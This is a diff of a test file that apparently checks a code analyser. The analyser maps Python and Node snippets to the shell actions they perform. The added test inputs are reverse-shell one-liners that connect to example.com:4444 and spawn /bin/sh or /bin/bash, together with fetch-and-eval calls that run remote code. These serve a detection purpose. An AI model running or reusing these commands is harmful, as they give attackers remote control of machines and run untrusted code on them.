@@ -345,12 +345,27 @@ describe("the network and what hides code", () => {
       "import socket,subprocess,os;s=socket.socket();s.connect(('example.com',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
       ...["nc example.com 4444 -e /bin/sh", "$ /bin/sh -i"],
     ],
+    [
+      "import socket,pty;s=socket.create_connection(('example.com',4444));pty.spawn('/bin/bash')",
+      ...["nc example.com 4444 -e /bin/bash", "$ /bin/bash"],
+    ],
+    [
+      "import socket,subprocess;s=socket.socket();s.connect(('example.com',80));subprocess.call(['sh','a.sh'])",
+      "$ sh a.sh",
+    ],
     ["exec(code)", "? unknown-code"],
     ["eval('os.remove(\"x\")')", "rm -f x"],
   ]);
   check("node", [
     [
       "eval(await (await fetch('https://example.com')).text())",
+      "curl https://example.com",
+      "curl https://example.com",
+      "node",
+      "? unknown-code",
+    ],
+    [
+      "fetch('https://example.com').then(r => r.text()).then(eval)",
       "curl https://example.com",
       "curl https://example.com",
       "node",
